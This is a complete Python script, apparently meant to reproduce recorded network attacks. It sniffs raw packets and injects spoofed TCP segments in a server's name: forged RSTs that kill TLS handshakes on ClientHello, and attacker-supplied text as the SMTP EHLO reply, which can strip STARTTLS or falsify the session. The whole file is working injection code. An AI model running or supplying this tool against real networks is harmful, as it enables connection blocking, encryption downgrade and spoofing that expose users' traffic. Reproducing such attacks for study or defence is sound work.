#!/usr/bin/env python3
"""The man on the side of the recorded attacks: he sees the client's packets pass and puts packets of his own in front of
the server's, but can stop none.

usage: side.py MODE DEVICE PORT [TEXT]

  rst    a RST in the server's name to whoever sends a ClientHello
  ehlo   TEXT in the server's name as the reply to EHLO

Ethernet and IPv4 only. Python 3 standard library."""
import socket
import struct
import sys

ACK, PSH, RST = 0x10, 0x08, 0x04


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(src, dst, sport, dport, seq, ack, flags, payload):
    """An IPv4 packet with a TCP segment."""
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 509, 0, 0) + payload
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0x4000, 63, 6, 0) + src + dst
    return ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + tcp


def seen(frame, port):
    """(src, dst, sport, dport, seq, ack, payload) of a client's segment, or None."""
    if frame[12:14] != b"\x08\x00" or frame[23] != 6:
        return None
    ip = frame[14:14 + int.from_bytes(frame[16:18], "big")]
    tcp = ip[(ip[0] & 15) * 4:]
    sport, dport, seq, ack, offset = struct.unpack("!HHIIB", tcp[:13])
    payload = tcp[(offset >> 4) * 4:]
    return (ip[12:16], ip[16:20], sport, dport, seq, ack, payload) if dport == port and payload else None


def answer(mode, text, segment):
    """The packet to the client, if any."""
    src, dst, sport, dport, seq, ack, payload = segment
    hello = payload[:2] == b"\x16\x03"
    after = seq + len(payload) & 0xFFFFFFFF
    if mode == "rst" and hello:
        return packet(dst, src, dport, sport, ack, after, RST | ACK, b"")
    if mode == "ehlo" and payload.upper().startswith(b"EHLO"):
        return packet(dst, src, dport, sport, ack, after, PSH | ACK, text)
    return None


def main():
    mode, device, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    text = sys.argv[4].encode("ascii").replace(b"|", b"\r\n") if len(sys.argv) > 4 else b""
    line = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    line.bind((device, 0))
    while True:
        frame, where = line.recvfrom(65536)
        segment = seen(frame, port) if where[2] != socket.PACKET_OUTGOING else None
        made = segment and answer(mode, text, segment)
        if made:
            line.send(frame[6:12] + frame[0:6] + b"\x08\x00" + made)


if __name__ == "__main__":
    main()
